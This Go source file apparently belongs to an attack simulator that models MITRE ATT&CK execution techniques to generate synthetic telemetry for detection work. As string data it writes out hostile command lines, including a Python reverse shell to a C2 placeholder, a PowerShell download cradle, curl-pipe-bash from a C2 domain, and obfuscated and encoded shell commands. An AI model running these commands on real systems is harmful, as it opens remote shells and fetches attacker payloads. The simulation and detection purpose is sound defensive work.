package technique

import (
	"encoding/base64"
	"fmt"
	"time"
	"unicode/utf16"

	"hemostat/sim"
	"hemostat/sim/world"
)

var execution = []*Technique{
	{
		ID: "T1059.001", Name: "Command and Scripting Interpreter: PowerShell", Tactic: "execution", Platforms: []string{"windows"},
		Needs: "a foothold on Windows", Effect: "tools are loaded into memory",
		Telemetry: []string{"windows/sysmon 1 7", "windows/powershell 4104"}, Tools: []string{"encoded command", "download cradle", "unmanaged runspace", "own process"}, Takes: sim.LogNormal(40*time.Second, 0.7), Success: 0.97,
		ready: needWindows, run: runPowerShell,
	},
	{
		ID: "T1059.004", Name: "Command and Scripting Interpreter: Unix Shell", Tactic: "execution", Platforms: []string{"linux"},
		Needs: "a session on Linux", Effect: "a script of the attacker has run",
		Telemetry: []string{"linux/auditd"}, Tools: []string{"curl pipe bash", "script in /dev/shm"}, Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.97,
		ready: needLinux, run: runShell,
	},
	{
		ID: "T1059.003", Name: "Command and Scripting Interpreter: Windows Command Shell", Tactic: "execution", Effect: "a batch of the attacker has run",
		Takes: sim.LogNormal(40*time.Second, 0.7), Success: 0.98,
		script: &script{at: onWindows, variants: []variant{
			by("redirected output", cmd(world.Cmd, `cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1710154230.56 2>&1`)),
			by("obfuscated", cmd(world.Cmd, `cmd.exe /c "s^e^t x=p^ow^er^sh^ell&&call %x% -w hidden"`)),
			by("batch file", cmd(world.Cmd, `cmd.exe /c C:\Users\Public\run.bat`)),
		}},
	},
	{
		ID: "T1059.005", Name: "Command and Scripting Interpreter: Visual Basic", Tactic: "execution", Effect: "a script of the attacker has run",
		Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.97,
		script: &script{at: onWindows, variants: []variant{
			by("wscript", cmd(world.Wscript, `wscript.exe //B "C:\Users\{user}\AppData\Local\Temp\invoice.vbs"`), child(world.Cmd, `cmd.exe /c whoami`)),
			by("cscript", cmd(world.Cscript, `cscript.exe //E:vbscript C:\ProgramData\report.txt`)),
		}},
	},
	{
		ID: "T1059.006", Name: "Command and Scripting Interpreter: Python", Tactic: "execution", Effect: "a script of the attacker has run",
		Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.97,
		script: &script{at: onLinux, variants: []variant{
			by("reverse shell", sh(world.Python, `python3 -c import socket,os,pty;s=socket.socket();s.connect(("{c2ip}",4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/sh")`), connect("", 443, "", 2e3, 4e3)),
			by("encoded", sh(world.Python, `python3 -c import base64;exec(base64.b64decode("aW1wb3J0IG9z"))`)),
			by("script", sh(world.Python, "python3 /tmp/.cache/run.py")),
		}},
	},
	{
		ID: "T1059.007", Name: "Command and Scripting Interpreter: JavaScript", Tactic: "execution", Effect: "a script of the attacker has run",
		Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.97,
		script: &script{at: onWindows, variants: []variant{
			by("wscript", under(world.Chrome, world.Wscript, `"C:\Windows\System32\WScript.exe" "C:\Users\{user}\Downloads\Update_browser.js"`), connect("", 443, "ssl", 2e3, 90e3)),
			by("hidden extension", cmd(world.Cscript, `cscript.exe //E:jscript "C:\Users\{user}\AppData\Roaming\Adobe\log.txt"`)),
			by("program's folder", cmd(world.Cscript, `cscript.exe //nologo "C:\Users\{user}\AppData\Local\Viewer\inventory.js"`), connect("", 443, "ssl", 2e3, 90e3)),
		}},
	},
	{
		ID: "T1047", Name: "Windows Management Instrumentation", Tactic: "execution", Effect: "a program was started through WMI",
		Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.97,
		script: &script{at: onWindows, variants: []variant{
			by("wmic process call", cmd(world.Wmic, `wmic.exe process call create "cmd.exe /c powershell -nop -w hidden -c iex(Get-Content C:\Users\Public\a.txt)"`), under(world.WmiPrvSE, world.Cmd, `cmd.exe /c powershell -nop -w hidden`)),
			by("Invoke-WmiMethod", powershell(`Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'cmd.exe /c C:\Users\Public\agent.exe'`), under(world.WmiPrvSE, world.PowerShell, `powershell.exe -c Get-Process`)),
		}},
	},
	{
		ID: "T1204.002", Name: "User Execution: Malicious File", Tactic: "execution", Effect: "a user opened a malicious file",
		Takes: sim.LogNormal(10*time.Minute, 0.9), Success: 0.9,
		script: &script{at: onWindows, variants: []variant{
			by("macro", under(world.Winword, world.Cmd, `cmd.exe /c certutil -decode %TEMP%\a.txt %TEMP%\a.exe`), load(`C:\Users\{user}\AppData\Local\Temp\a.dll`)),
			by("double extension", under(world.Explorer, world.Dropped(`C:\Users\Public\Downloads\Invoice_2026.pdf.exe`, &plain), `"C:\Users\{user}\Downloads\Invoice_2026.pdf.exe"`)),
			by("shortcut", under(world.Explorer, world.Cmd, `"C:\Windows\System32\cmd.exe" /c start "" "%TEMP%\viewer.exe"`)),
		}},
	},
	{
		ID: "T1569.002", Name: "System Services: Service Execution", Tactic: "execution", Effect: "a program ran as a service",
		Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.96,
		script: &script{at: onElevated, variants: []variant{
			by("sc create and start", cmd(world.Sc, `sc.exe create UpdSvc binPath= "cmd.exe /c powershell -nop -w hidden -enc JABzAD0A" start= demand`), cmd(world.Sc, `sc.exe start UpdSvc`), asSystem(world.Services, world.Cmd, `cmd.exe /c powershell -nop -w hidden -enc JABzAD0A`)),
			by("psexec on the host", cmd(world.PsExec, `PsExec64.exe -accepteula -s cmd.exe /c whoami`), installService("PSEXESVC", `%SystemRoot%\PSEXESVC.exe`), asSystem(world.PsExecSvc, world.Cmd, `cmd.exe /c whoami`)),
		}},
	},
}

// plain is where programs that every trial shares draw their digests from.
var plain = sim.NewStreams(0, 0).Stream("technique", "programs")

// installService registers a service on the host.
func installService(name, image string) move {
	return move{"windows/system 7045, windows/security 4697", func(a *Attempt, f *Foothold) world.Refusal {
		a.World.InstallService(a.Now, a.Actor, f.Host, f.Account, name, image)
		return world.Refusal{}
	}}
}

// encoded is a script as powershell -enc takes it: base64 of UTF-16LE.
func encoded(script string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(script)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// start runs a program from a foothold.
func (a *Attempt) start(f *Foothold, b *world.Binary, line string) *world.Process {
	a.Process = a.StartOn(a.Now, f, b, line)
	return a.Process
}

func runPowerShell(a *Attempt) Progress {
	f := a.Where(true, false)
	if f == nil {
		return failure("%s", errNoWindows)
	}
	c2 := a.C2()
	if r, played := a.playFurther(f); !r.OK() {
		return blocked(r)
	} else if played {
		return success("%s on %s", a.Tool, f.Host.Name)
	}
	switch a.Tool {
	case "encoded command":
		script := "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAA'));IEX (New-Object IO.StreamReader($s)).ReadToEnd()"
		p := a.start(f, world.PowerShell, "powershell.exe -nop -w hidden -enc "+encoded(script))
		a.World.RunScript(a.Now+time.Second, a.Actor, p, script)
	case "download cradle":
		script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/a')", c2.Domain)
		p := a.start(f, world.PowerShell, `powershell.exe -c "`+script+`"`)
		a.World.RunScript(a.Now+time.Second, a.Actor, p, script)
		if r := a.World.Reach(world.At(f.Host), c2, 443); !r.OK() {
			return blocked(r)
		}
		a.World.Flow(a.Now+2*time.Second, a.Actor, world.Flow{From: world.At(f.Host), To: c2, Port: 443, Service: "ssl", Process: p, Sent: 2e3, Received: 900e3, Duration: 2 * time.Second})
	default:
		p := a.last(f)
		if a.Tool == "unmanaged runspace" {
			p = a.start(f, world.Rundll32, "rundll32.exe")
		}
		a.World.LoadImage(a.Now+time.Second, a.Actor, p, automation)
	}
	return success("tools loaded on %s", f.Host.Name)
}

var automation = &world.Binary{Path: `C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\d14b0ad9\System.Management.Automation.ni.dll`, OriginalName: "System.Management.Automation.dll", Company: "Microsoft Corporation", Product: "Microsoft (R) Windows (R) Operating System", Description: "System.Management.Automation", Version: "10.0.17763.1", Signed: true}

func runShell(a *Attempt) Progress {
	f := a.Where(false, false)
	if f == nil {
		return failure("%s", errNoLinux)
	}
	to := a.C2()
	if a.Tool == "curl pipe bash" {
		if r := a.World.Reach(world.At(f.Host), to, 443); !r.OK() {
			return blocked(r)
		}
		a.start(f, world.Bash, "bash -c curl -fsSL https://"+to.Domain+"/x.sh|bash")
		a.start(f, world.Curl, "curl -fsSL https://"+to.Domain+"/x.sh")
		a.World.Resolve(a.Now, a.Actor, f.Host, nil, to.Domain, "A", to.Address)
		a.World.Flow(a.Now, a.Actor, world.Flow{From: world.At(f.Host), To: to, Port: 443, Service: "ssl", Sent: 900, Received: 30e3, Duration: time.Second})
	} else {
		a.start(f, world.Chmod, "chmod +x /dev/shm/.x")
		a.start(f, world.UnixProgram("/usr/bin/nohup"), "nohup /dev/shm/.x")
		a.start(f, &world.Binary{Path: "/dev/shm/.x"}, "/dev/shm/.x")
	}
	return success("script ran on %s", f.Host.Name)
}
